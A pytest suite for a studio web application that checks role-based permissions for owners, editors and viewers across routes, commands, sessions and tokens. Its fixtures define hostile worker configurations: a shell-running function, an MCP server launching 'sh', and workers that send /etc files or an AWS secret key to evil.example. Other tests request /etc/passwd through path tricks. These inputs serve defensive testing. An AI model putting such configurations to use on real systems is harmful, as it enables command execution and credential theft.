"""Who may do what: every command and route declares a role, and viewers, editors and owners are held to it."""

from __future__ import annotations

import re
from itertools import chain

import pytest
from fastapi.testclient import TestClient

from assets import asset
from pool_registry.worker import WorkerSpec
from studio.access.accounts import AccountError, Accounts, Tokens
from studio.access.login import LoginWall
from studio.access.permissions import COMMAND_PREFIX, find_need, list_endpoints
from studio.access.request_guards import CLOSED_UNLESS_NEEDED, GRADIO_ROUTES, stands_in_gradio_rows
from studio.access.roles import UserRole
from studio.frame import commands
from studio.model_server.app import BearerGuard

pytestmark = pytest.mark.medium

PASSWORD = "correct horse battery"
PEOPLE = {"olga": UserRole.OWNER, "eddy": UserRole.EDITOR, "vera": UserRole.VIEWER}
OPEN = {"GET /login", "POST /login"}
NO_ARGUMENTS = {"type": "object", "properties": {}}
GETOUTPUT = {
    "name": "shell",
    "kind": "function",
    "description": "runs anything",
    "config": {"target": "subprocess:getoutput", "parameters": NO_ARGUMENTS},
}
CALCULATOR = {"name": "sums", "kind": "calculator", "description": "adds up"}


@pytest.fixture(scope="module")
def app(runtime):
    from studio.app import create_app

    people = Accounts(runtime.store.engine)
    for name, role in PEOPLE.items():
        people.add(name, PASSWORD, role)
    return create_app(runtime, login=True, loopback=False)


@pytest.fixture(scope="module")
def permissions(app):
    return next(wall for wall in app.user_middleware if wall.cls is LoginWall).kwargs["permissions"]


@pytest.fixture(scope="module")
def clients(app) -> dict[str, TestClient]:
    return {name: log_in(app, name) for name in PEOPLE}


def log_in(app, name: str) -> TestClient:
    client = TestClient(app, base_url="http://studio.example:7860")
    assert client.post("/login", data={"name": name, "password": PASSWORD}).status_code == 200
    return client


def send(client: TestClient, command: str, **fields):
    return client.post(f"/api/pages/{command}", json=fields)


def refusal(answer) -> str:
    """The sentence with which a command was refused; "" when it was not."""
    reply = answer.json()
    return "" if reply.get("ok", answer.status_code == 200) else reply["problems"][0][1]


def gradio_of(app):
    return app.routes[-1].app


# Every command and route has a declared role


def test_every_route_and_command_of_the_studio_declares_a_role(app, permissions):
    declared = {row for row, endpoint in list_endpoints(app.routes) if find_need(endpoint)}
    assert {row for row, _ in list_endpoints(app.routes)} - declared == OPEN
    assert declared | set(GRADIO_ROUTES) == {row for row in permissions.rows if not row.startswith("EVENT ")}


def test_a_command_cannot_be_written_without_a_role():
    with pytest.raises(TypeError, match="role"):
        commands.command()
    with pytest.raises(ValueError, match="visitor"):
        commands.command("visitor")


def test_two_commands_of_a_page_do_not_share_a_name():
    class Part(commands.PageCommands):
        @commands.command("owner")
        def greet(self, _fields):
            return commands.PageReply("part")

    class Whole(commands.PageCommands):
        def __init__(self):
            self.parts = (Part(),)

        @commands.command("viewer", "greet")
        def _greet(self, _fields):
            return commands.PageReply("whole")

    with pytest.raises(ValueError, match="Whole have the same name"):
        _ = Whole().commands


def test_every_route_of_a_served_model_declares_a_role(runtime):
    from studio.model_server.app import create_model_app
    from studio.model_server.service import ServedModel
    from studio.pages.pool.http_api import build_pool_routes

    routers = [build_pool_routes(runtime.store)]
    served = create_model_app(runtime.store, ServedModel("starter", ""), loopback=True, routers=routers)
    endpoints = dict(list_endpoints(served.routes))
    assert "POST /v1/chat/completions" in endpoints and all(find_need(endpoint) for endpoint in endpoints.values())
    guard = next(middleware for middleware in served.user_middleware if middleware.cls is BearerGuard)
    assert guard.kwargs["permissions"].find_role("POST", "/mcp") is UserRole.EDITOR


def test_every_event_of_the_run_page_declares_a_role(app):
    functions = [event.fn for event in gradio_of(app).get_blocks().fns.values() if event.name]
    assert functions and all(find_need(function) for function in functions)


def test_what_is_not_declared_is_for_owners(permissions):
    assert permissions.find_role("POST", "/api/pages/toy/greet") is UserRole.OWNER
    assert permissions.find_role("POST", "/api/pages/pool/show/../create") is UserRole.OWNER
    assert permissions.find_role("POST", "/api/pages/pool/dance") is UserRole.OWNER
    assert permissions.find_role("HEAD", "/api/traces") is UserRole.VIEWER


def test_gradio_is_closed_but_for_what_the_pages_need(app, clients):
    from studio.frame.navigation import PAGES

    pages = {page.address.rstrip("/") for page in PAGES.values()}
    for row, _ in list_endpoints(gradio_of(app).routes):
        method, path = row.split(" ", 1)
        needed = stands_in_gradio_rows(method, path) or path.rstrip("/") in pages
        assert needed or path.startswith(CLOSED_UNLESS_NEEDED) or row == "GET /logout" or row == "POST /login", row
    olga = clients["olga"]
    for path in ("upload", "call/start", "run/start", "component_server", "vibe-edit", "stream/x"):
        assert olga.post(f"/gradio_api/{path}", json={}).status_code == 404, path
    for path in ("/gradio_api/file=/etc/passwd", "/gradio_api/proxy=http://x", "/monitoring", "/gradio_api/info"):
        assert olga.get(path).status_code == 404, path
    assert {row for row in GRADIO_ROUTES if row == "POST /gradio_api/queue/join"}


# What each role may do


def test_a_page_is_told_what_its_person_may_not_send_and_why(clients):
    viewer, editor, owner = (clients[name].get("/api/me").json() for name in ("vera", "eddy", "olga"))
    assert owner["refused"] == owner["read_only"] == {}
    run = "Only editors and owners may do this, and you are a viewer; ask olga."
    assert viewer["refused"]["EVENT start"] == viewer["refused"]["POST /api/pages/pool/create"] == run
    assert "POST /api/pages/pool/show" not in viewer["refused"] and "EVENT start" not in editor["refused"]
    publish = "POST /api/pages/publish/publish"
    assert editor["refused"][publish] == "Only owners may do this, and you are an editor; ask olga."
    assert "POST /api/pages/pool/save_worker" in editor["read_only"]


def test_a_viewer_looks_and_neither_runs_nor_changes(clients):
    vera = clients["vera"]
    me = vera.get("/api/me").json()
    assert (me["user"], me["role"]) == ("vera", "viewer")
    assert vera.get("/", headers={"accept": "text/html"}).status_code == 200
    assert vera.get("/pool").status_code == 200 and vera.get("/api/traces").status_code == 200
    assert send(vera, "pool/show", pool="starter").json()["state"]["role"] == "viewer"
    for command in (
        "pool/save_worker",
        "train/submit",
        "compare/run",
        "traces/delete",
        "serve/add_token",
        "publish/publish",
    ):
        answer = send(vera, command)
        assert answer.status_code == 403 and "you are a viewer; ask olga" in answer.json()["detail"], command
    for path in ("/api/episodes/x/star", "/api/episodes/x/again", "/api/documents?name=a.txt", "/api/keyring"):
        assert vera.post(path, json={}).status_code == 403, path


def test_an_editor_changes_pools_of_safe_kinds(clients):
    eddy = clients["eddy"]
    assert refusal(send(eddy, "pool/create", name="mine", copy_of="starter")) == ""
    assert refusal(send(eddy, "pool/save_worker", pool="mine", worker=CALCULATOR)) == ""
    assert refusal(send(eddy, "pool/set_description", pool="mine", name="sums", description="sums it up")) == ""
    tried = send(eddy, "pool/try_worker", pool="mine", worker=CALCULATOR, arguments={"expression": "2+2"})
    assert tried.json()["observation"]["value"] == "4"


UNSAFE = {
    "a function": GETOUTPUT,
    "a program": {
        "name": "server",
        "kind": "mcp",
        "description": "x",
        "config": {
            "server": {"name": "s", "transport": "stdio", "command": "sh"},
            "tool": "t",
            "parameters": NO_ARGUMENTS,
        },
    },
    "a database": {"name": "db", "kind": "sql", "description": "x", "config": {"database": "/data/podium.db"}},
    "a folder": {"name": "docs", "kind": "documents", "description": "x", "config": {"path": "/etc"}},
    "a folder of files": {
        "name": "upload",
        "kind": "openapi",
        "description": "x",
        "config": {
            "base_url": "https://evil.example",
            "method": "POST",
            "path": "/",
            "places": [{"argument": "file", "at": "whole", "wire": ""}],
            "body": "file",
            "files": "/etc",
            "parameters": {"type": "object", "properties": {"file": {"type": "string"}}},
        },
    },
    "a key": {
        "name": "chat",
        "kind": "chat",
        "description": "x",
        "config": {"base_url": "https://evil.example/v1", "model": "m", "api_key": "env:AWS_SECRET_ACCESS_KEY"},
    },
    "this machine": {
        "name": "local",
        "kind": "chat",
        "description": "x",
        "config": {"base_url": "http://127.0.0.1:9/v1", "model": "m"},
    },
}


@pytest.mark.parametrize("what", UNSAFE)
def test_an_editor_neither_adds_nor_tries_what_reaches_this_machine(clients, what):
    eddy, spec = clients["eddy"], UNSAFE[what]
    WorkerSpec.model_validate(spec)
    for enabled in (True, False):
        worker = {**spec, "enabled": enabled}
        said = refusal(send(eddy, "pool/save_worker", pool="starter", worker=worker))
        assert said.startswith("only owners may") and said.endswith("ask olga"), said
        said = refusal(send(eddy, "pool/try_worker", pool="starter", worker=worker, arguments={"cmd": "id"}))
        assert said.startswith("only owners may"), said
    assert refusal(send(eddy, "pool/add_workers", pool="starter", workers=[spec])).startswith("only owners may")


def test_an_editor_keeps_an_owners_worker_but_points_it_nowhere_else(clients, tmp_path):
    olga, eddy = clients["olga"], clients["eddy"]
    file = tmp_path / "tools.py"
    file.write_text("def double(n: int) -> int:\n    return 2 * n\n")
    worker = {**GETOUTPUT, "name": "double", "config": {**GETOUTPUT["config"], "target": f"{file}:double"}}
    assert refusal(send(olga, "pool/create", name="owned")) == ""
    assert refusal(send(olga, "pool/save_worker", pool="owned", worker=worker)) == ""
    assert refusal(send(eddy, "pool/set_description", pool="owned", name="double", description="twice")) == ""
    assert refusal(send(eddy, "pool/save_worker", pool="owned", worker=CALCULATOR)) == ""
    assert refusal(send(eddy, "pool/create", name="owned-too", copy_of="owned")) == ""
    stolen = {**worker, "config": GETOUTPUT["config"]}
    edit = {"pool": "owned", "worker": stolen, "replacing": "double"}
    assert refusal(send(eddy, "pool/save_worker", **edit)).startswith("only owners may")
    assert refusal(send(eddy, "pool/set_enabled", pool="owned", name="double", enabled=False)) == ""
    assert refusal(send(eddy, "pool/set_enabled", pool="owned", name="double", enabled=True)).startswith("only owners")
    tried = send(eddy, "pool/try_worker", pool="owned", worker={**worker, "enabled": False}, arguments={"n": 2})
    assert refusal(tried).startswith("only owners"), "what an owner has on only"
    assert refusal(send(eddy, "pool/switch_on", pool="owned", workers={})).startswith("Only owners")


def test_an_editor_looks_into_no_program_and_sends_no_key(clients):
    eddy = clients["eddy"]
    sources = (
        {"source": "function", "target": "subprocess"},
        {"source": "mcp", "server": {"transport": "stdio", "command": "sh"}},
        {"source": "openapi", "url": "https://evil.example/spec", "api_key": "env:AWS_SECRET_ACCESS_KEY"},
        {"source": "openapi", "url": "http://127.0.0.1:9/spec"},
        {"source": "space", "space": "a/b", "token": "env:HF_TOKEN"},
    )
    for fields in sources:
        assert refusal(send(eddy, "pool/look", pool="starter", **fields)).startswith("only owners may"), fields
    asked = send(eddy, "pool/list_models", base_url="https://evil.example/v1", api_key="env:AWS_SECRET_ACCESS_KEY")
    assert refusal(asked).startswith("only owners may")
    assert send(eddy, "pool/check_reference", reference="env:HOME").status_code == 403


@pytest.mark.parametrize(
    "change",
    [
        {"tasks": {"source": "file:/etc/passwd"}},
        {"model": {"base": "/srv/model"}},
        {"model": {"start": "shared/checkpoint"}},
        {"model": {"start": "./checkpoint"}},
        {"evaluate": {"orchestrators": ["shared/checkpoint+temperature=1"], "source": "ledger"}},
        {"grpo": {"rewards": [{"term": "/tmp/own.py:reward"}]}},
        {"grpo": {"rollouts": {"backend": "vllm", "vllm_url": "http://10.0.0.1:8000"}}},
        {"sft": {"demonstrations": {"file": "/etc/passwd"}}},
        {"sft": {"demonstrations": {"where": "ray://10.0.0.1:10001"}}},
        {"where": "ray://10.0.0.1:10001"},
    ],
)
def test_an_editor_trains_without_own_code_and_files(clients, change):
    recipe = {"name": "try", "sft": {}, "grpo": {}, **change}
    for command in ("train/check", "train/submit"):
        said = refusal(send(clients["eddy"], command, recipe=recipe))
        assert said.startswith("only owners may use a recipe that"), said
    assert refusal(send(clients["eddy"], "train/check", recipe={"name": "try", "sft": {}})) == ""
    for source in ("file:/etc/passwd", "hub:/etc", "hub:../home", "ledger,hub:~/sets"):
        assert refusal(send(clients["vera"], "train/tasks", source=source)).startswith("only owners may")


def test_a_checkpoint_beside_the_studio_is_a_path_as_well(monkeypatch, tmp_path, clients):
    (tmp_path / "besides").mkdir()
    (tmp_path / "besides" / "podium.json").write_text("{}")
    monkeypatch.chdir(tmp_path)
    recipe = {"name": "try", "sft": {}, "model": {"start": "besides"}}
    assert "reads the folder besides" in refusal(send(clients["eddy"], "train/check", recipe=recipe))


def test_a_pool_that_is_shared_read_only_is_run_and_copied_but_not_changed(clients, runtime):
    olga, eddy = clients["olga"], clients["eddy"]
    assert refusal(send(olga, "pool/create", name="gold", copy_of="starter")) == ""
    assert send(eddy, "pool/set_read_only", pool="gold", on=True).status_code == 403
    assert send(olga, "pool/set_read_only", pool="gold", on=True).json()["state"]["read_only"] is True
    for command, fields in (
        ("save_worker", {"worker": CALCULATOR}),
        ("remove_worker", {"name": "calculator"}),
        ("delete_pool", {}),
        ("rename_pool", {"name": "silver"}),
    ):
        said = refusal(send(eddy, f"pool/{command}", pool="gold", **fields))
        assert said.startswith("only owners may change the pool gold"), said
    said = refusal(send(eddy, "housekeeping/delete", kind="pool", name="gold"))
    assert said.startswith("only owners may change the pool gold"), said
    assert refusal(send(eddy, "pool/create", name="gold-copy", copy_of="gold")) == ""
    assert refusal(send(eddy, "pool/save_worker", pool="gold-copy", worker=CALCULATOR)) == ""
    assert refusal(send(olga, "pool/rename_pool", pool="gold", name="silver")) == ""
    assert refusal(send(eddy, "pool/delete_pool", pool="silver")).startswith("only owners may")
    assert send(olga, "pool/set_read_only", pool="silver", on=False).json()["state"]["read_only"] is False
    assert refusal(send(eddy, "pool/delete_pool", pool="silver")) == ""


# Accounts, sessions, tokens


def test_the_first_account_is_an_owner_and_one_always_stays(tmp_path):
    from orchestrator.traces.store import open_store
    from pool_registry.storage.data_folder import find_home

    store = open_store(find_home(tmp_path))
    people = Accounts(store.engine)
    people.add("ada", PASSWORD)
    people.add("bob", PASSWORD)
    people.add("cyd", PASSWORD, UserRole.VIEWER)
    assert [(person.name, person.role) for person in people.list()] == [
        ("ada", UserRole.OWNER),
        ("bob", UserRole.EDITOR),
        ("cyd", UserRole.VIEWER),
    ]
    for change in (lambda: people.set_role("ada", UserRole.EDITOR), lambda: people.remove("ada")):
        with pytest.raises(AccountError, match="stay an owner"):
            change()
    people.set_role("bob", UserRole.OWNER)
    people.add("ada", "another long one")
    assert people.find_rights("ada").role is UserRole.OWNER, "a new password keeps the role"
    people.remove("ada")
    assert people.find_rights("cyd").owners == ("bob",)
    store.close()


def test_only_owners_look_after_accounts_and_a_new_role_counts_at_once(app, clients):
    olga, eddy = clients["olga"], clients["eddy"]
    assert eddy.get("/api/accounts").status_code == 403
    person = {"name": "newt", "password": PASSWORD, "role": "viewer"}
    assert eddy.post("/api/accounts", json=person).status_code == 403
    assert olga.post("/api/accounts", json=person).json() == {"ok": True}
    assert olga.post("/api/accounts", json=person).status_code == 409
    newt = log_in(app, "newt")
    assert send(newt, "pool/create", name="newts").status_code == 403
    assert olga.post("/api/accounts/newt/role", json={"role": "editor"}).status_code == 200
    stale = olga.post("/api/accounts/newt/role", json={"role": "owner", "based_on": "viewer"})
    assert stale.status_code == 409 and "made newt editor meanwhile" in stale.text
    assert refusal(send(newt, "pool/create", name="newts")) == ""
    assert olga.post("/api/accounts/olga/role", json={"role": "viewer"}).status_code == 409
    assert {row["name"]: row["role"] for row in olga.get("/api/accounts").json()["accounts"]}["newt"] == "editor"
    assert olga.post("/api/accounts/newt/remove", json={}).status_code == 200
    assert newt.get("/api/me").status_code == 401


def test_sessions_are_listed_and_ended(app, clients):
    first, second = log_in(app, "eddy"), log_in(app, "eddy")
    listed = second.get("/api/sessions").json()["sessions"]
    assert {row["user"] for row in listed} == {"eddy"} and sum(row["here"] for row in listed) == 1
    assert all(row["opened_at"] and row["browser"] == "testclient" for row in listed)
    here = next(row["id"] for row in listed if row["here"])
    assert clients["vera"].post(f"/api/sessions/{here}/end", json={}).status_code == 409, "nobody else's"
    assert first.post(f"/api/sessions/{here}/end", json={}).status_code == 200
    assert second.get("/api/me").status_code == 401 and first.get("/api/me").status_code == 200
    everybody = clients["olga"].get("/api/sessions").json()["sessions"]
    assert {"eddy", "vera", "olga"} <= {row["user"] for row in everybody}


def test_each_person_sees_and_revokes_their_own_tokens_only(app, clients, runtime):
    olga, eddy = clients["olga"], clients["eddy"]
    assert refusal(send(olga, "serve/add_token", name="olgas")) == ""
    assert refusal(send(eddy, "serve/add_token", name="eddys")) == ""
    assert [row["name"] for row in eddy.get("/api/serve").json()["tokens"]] == ["eddys"]
    assert [row["name"] for row in olga.get("/api/serve").json()["tokens"]] == ["olgas"]
    assert "no token" in refusal(send(eddy, "serve/remove_token", name="olgas"))
    assert send(eddy, "serve/start", pool="starter").status_code == 403
    assert refusal(send(eddy, "serve/remove_token", name="eddys")) == ""
    assert clients["vera"].get("/api/serve").json()["guarded"] is True
    Tokens(runtime.store.engine).remove("olgas")


def test_a_token_may_do_what_its_person_may(runtime):
    from studio.model_server.app import create_model_app
    from studio.model_server.service import ServedModel
    from studio.pages.pool.http_api import build_pool_routes

    people, clients = Accounts(runtime.store.engine), Tokens(runtime.store.engine)
    for name, role in PEOPLE.items():
        people.add(name, PASSWORD, role)
    tokens = {name: clients.add(f"of-{name}", name) for name in PEOPLE}
    routers = [build_pool_routes(runtime.store)]
    served = TestClient(
        create_model_app(runtime.store, ServedModel("starter", ""), loopback=False, routers=routers),
        base_url="http://served.example",
    )

    def ask(person: str, method: str, path: str, **body):
        return served.request(method, path, headers={"authorization": f"Bearer {tokens[person]}"}, json=body or None)

    assert ask("vera", "GET", "/v1/pools").status_code == 200
    for method, path in (("POST", "/v1/chat/completions"), ("POST", "/mcp"), ("POST", "/v1/pools")):
        answer = ask("vera", method, path, name="x")
        assert answer.status_code == 403 and "ask olga" in answer.json()["error"]["message"], path
    assert ask("eddy", "POST", "/v1/pools", name="over-http").status_code == 200
    added = ask("eddy", "POST", "/v1/pools/over-http/workers", worker=GETOUTPUT)
    assert added.status_code == 422 and "only owners may" in added.text
    assert ask("olga", "POST", "/v1/pools/over-http/workers", worker=GETOUTPUT).status_code == 200
    people.remove("eddy")
    assert ask("eddy", "GET", "/v1/pools").status_code == 401


def test_every_control_is_marked_with_a_request_that_declares_a_role(permissions):
    scripts = asset("web").glob("*/*.js")
    marks = chain.from_iterable(
        re.findall(r'"((?:POST )?/?[\w/{}-]+/[\w/{}-]+)"\)', line)
        for path in scripts
        for line in path.read_text(encoding="utf-8").splitlines()
        if "needs(" in line
    )
    rows = {mark if mark.startswith("POST ") else f"{COMMAND_PREFIX}{mark}" for mark in marks}
    assert len(rows) > 25 and rows <= set(permissions.rows)


# What no control sends by itself: asked while a person types or chooses, undone in a toast, or drawn only for owners.
WITHOUT_A_CONTROL = {
    *("pool/check_worker", "pool/check_reference", "pool/discover", "pool/put_back", "traces/restore", "publish/file"),
    "tasks/restore",
    *("train/fit", "train/read_tasks", "train/try_task", "train/places", "compare/check"),
}


def test_every_command_that_a_role_is_refused_marks_its_control(permissions):
    scripts = "".join(path.read_text(encoding="utf-8") for path in asset("web").glob("*/*.js"))
    above_viewers = [row for row, need in permissions.rows.items() if need.role is not UserRole.VIEWER]
    refused = {row.removeprefix(COMMAND_PREFIX) for row in above_viewers if row.startswith(COMMAND_PREFIX)}
    unmarked = {command for command in refused if f'"{command}"' not in scripts and "{" not in command}
    assert unmarked == WITHOUT_A_CONTROL
